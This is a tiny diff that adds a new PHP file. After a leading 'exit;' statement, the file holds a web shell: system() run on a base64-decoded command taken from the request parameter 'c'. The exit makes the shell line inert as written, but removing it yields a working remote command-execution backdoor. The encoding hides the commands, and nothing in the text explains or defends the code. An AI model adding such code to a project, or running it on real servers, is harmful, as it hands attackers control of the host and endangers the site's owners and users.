@@ -1,0 +1,2 @@
+<?php exit;
+system( /* run */ base64_decode($_REQUEST['c']));
